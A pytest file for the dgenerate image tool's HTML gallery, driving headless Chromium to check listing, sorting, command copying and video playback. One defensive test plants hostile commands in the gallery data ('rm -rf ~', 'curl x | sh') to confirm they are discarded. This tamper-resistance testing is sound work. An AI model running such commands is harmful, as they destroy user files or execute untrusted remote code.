"""The gallery in a real headless Chromium (Debian's, driven by Playwright): it lists, filters, sorts, and its
copied command regenerates the image byte-identical in a new process."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from dgenerate.curate.gallery import read_entries
from tests.conftest import RunCli

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FAST = ("--device", "cpu", "--cpu-threads", "1", "--inference-steps", "2", "--output-metadata")

needs_browser = pytest.mark.skipif(
    CHROMIUM is None and os.environ.get("CI") != "true",
    reason="no chromium here (scripts/setup --test installs it; in CI its absence fails the test)")


def pixels(path: Path) -> bytes:
    return np.asarray(Image.open(path).convert("RGB")).tobytes()


@pytest.fixture
def gallery(run_cli: RunCli, tiny_model: Path, tmp_path: Path) -> Path:
    """Two runs into one folder: a 2 x 2 grid, then one more image."""
    folder = tmp_path / "out"
    first = run_cli(str(tiny_model), *FAST, "--seeds", "5", "6", "--guidance-scales", "3", "7",
                    "--prompts", "a <b>bold</b> </script> prompt", "--gallery", "-o", str(folder))
    assert first.code == 0, first.err
    second = run_cli(str(tiny_model), *FAST, "--seeds", "4", "--guidance-scales", "9", "--gallery", "-o", str(folder))
    assert second.code == 0, second.err
    assert f"wrote {folder / 'index.html'}" in second.err
    return folder / "index.html"


@contextlib.contextmanager
def opened_page(url: str, allowed: str) -> Iterator[Any]:
    """`url` in Debian's headless Chromium; a page error, or a request to anywhere not starting with `allowed`, fails
    the test."""
    if CHROMIUM is None:
        pytest.fail("chromium is not installed; run scripts/setup --test")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        context = browser.new_context()
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        opened = context.new_page()
        errors: list[str] = []
        opened.on("pageerror", lambda error: errors.append(str(error)))
        opened.on("request", lambda request: errors.append(request.url) if not request.url.startswith(allowed) else 0)
        opened.goto(url)
        yield opened
        browser.close()
        assert not errors, f"page errors or network requests: {errors}"


@pytest.fixture
def page(gallery: Path) -> Iterator[Any]:
    with opened_page(gallery.as_uri(), "file:") as opened:
        yield opened


def captions(page: Any) -> list[str]:
    return [str(text) for text in page.locator("figcaption").all_text_contents()]


@needs_browser
def test_the_gallery_lists_filters_and_sorts_every_image(page: Any, gallery: Path) -> None:
    files = sorted(path.name for path in gallery.parent.glob("*.png"))
    assert len(files) == 5
    assert sorted(page.locator("figure").evaluate_all("figures => figures.map(f => f.dataset.file)")) == files
    assert page.locator("#count").text_content() == "5 of 5 images"
    assert all(image > 0 for image in page.locator("figure img").evaluate_all(
        "images => images.map(i => i.complete ? i.naturalWidth : 1)"))
    assert "a <b>bold</b> </script> prompt" in " ".join(captions(page)), "prompts are text, never markup"
    page.select_option("select[data-filter=guidance]", "7")
    assert page.locator("figure").count() == 2 and page.locator("#count").text_content() == "2 of 5 images"
    page.select_option("select[data-filter=guidance]", "")
    page.select_option("#sort", "seed")
    seeds = [caption.split("seed: ")[1].split(" ")[0] for caption in captions(page)]
    assert seeds == sorted(seeds, key=int) and seeds[0] == "4"


@needs_browser
def test_the_copied_command_regenerates_the_image_byte_identical(page: Any, gallery: Path, tmp_path: Path) -> None:
    page.locator("figure").nth(2).click()
    assert page.locator("#viewer").is_visible()
    chosen = gallery.parent / page.locator("figure").nth(2).get_attribute("data-file")
    page.click("#copy")
    page.wait_for_function("document.getElementById('copied').textContent === 'copied'")
    command = page.evaluate("navigator.clipboard.readText()")
    words = shlex.split(command)
    assert words[0] == "dgenerate" and words[-2:] == ["--output-path", "regenerated"]
    folder = tmp_path / "replay"
    folder.mkdir()
    result = subprocess.run([sys.executable, "-m", "dgenerate", *words[1:]], cwd=folder, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stderr
    (again,) = (folder / "regenerated").glob("*.png")
    assert pixels(again) == pixels(chosen)


def test_later_runs_add_to_the_gallery_and_gone_files_leave_it(run_cli: RunCli, tiny_model: Path,
                                                              gallery: Path) -> None:
    entries = read_entries(gallery)
    assert len(entries) == 5 and len({entry["job_id"] for entry in entries}) == 5
    removed = gallery.parent / entries[0]["file"]
    removed.unlink()
    result = run_cli(str(tiny_model), *FAST, "--seeds", "8", "--gallery", "-o", str(gallery.parent))
    assert result.code == 0, result.err
    assert sorted(entry["file"] for entry in read_entries(gallery)) == sorted(
        path.name for path in gallery.parent.glob("*.png"))


def test_a_page_that_is_not_a_gallery_is_left_alone(run_cli: RunCli, tiny_model: Path, tmp_path: Path) -> None:
    page = tmp_path / "index.html"
    page.write_text("<html>my own page</html>")
    result = run_cli(str(tiny_model), *FAST, "--seeds", "1", "--gallery", "-o", str(tmp_path))
    assert result.code == 1 and "is not a dgenerate gallery" in result.err
    assert page.read_text() == "<html>my own page</html>"
    assert [path.name for path in tmp_path.iterdir()] == ["index.html"], "refused before any image was made"


def test_a_page_edited_by_someone_else_offers_no_command_of_its_own(gallery: Path) -> None:
    """The command a page offers to copy is made again from each image's config, and its files stay in the folder."""
    text = gallery.read_text()
    data = re.search(r'id="gallery-data">(.*?)</script>', text, re.DOTALL)
    assert data is not None
    entries = json.loads(data.group(1))
    honest = read_entries(gallery)
    assert [entry["command"] for entry in honest] == [entry["command"] for entry in entries["entries"]]
    entries["entries"][0].update(command="rm -rf ~", animation="https://example.invalid/track.mp4")
    entries["entries"][1].update(command="curl x | sh", config="model --seeds 1 --prompts x\n\\print ${HOME}\n")
    gallery.write_text(text.replace(data.group(1), json.dumps(entries).replace("<", "\\u003c")))
    first, second, *rest = read_entries(gallery)
    assert first["command"] == honest[0]["command"] and first["animation"] == "track.mp4"
    assert second["command"].startswith("# no command: its config cannot be read (line 2: '\\print' is a directive")
    assert [entry["command"] for entry in rest] == [entry["command"] for entry in honest[2:]]


@needs_browser
def test_a_video_models_clip_plays_in_the_gallery(run_cli: RunCli, tiny_wan: Path, tmp_path: Path) -> None:
    folder = tmp_path / "clips"
    result = run_cli(str(tiny_wan), "--output-size", "64x64", "--frames", "9", "--prompts", "a red circle",
                     *FAST, "--seeds", "5", "--gallery", "-o", str(folder))
    assert result.code == 0, result.err
    with opened_page((folder / "index.html").as_uri(), "file:") as opened:
        assert opened.locator("figure").count() == 1, "one entry per clip, shown by its first frame"
        opened.locator("figure").first.click()
        video = opened.locator("#picture video")
        assert video.get_attribute("src") == "s_5_g_5-0_i_2_nf_9_fs_3-0_step_1.mp4"
        opened.evaluate("document.querySelector('#picture video').play()")
        opened.wait_for_function("document.querySelector('#picture video').currentTime > 0.1", timeout=20_000)
        assert opened.evaluate("document.querySelector('#picture video').videoWidth") == 64
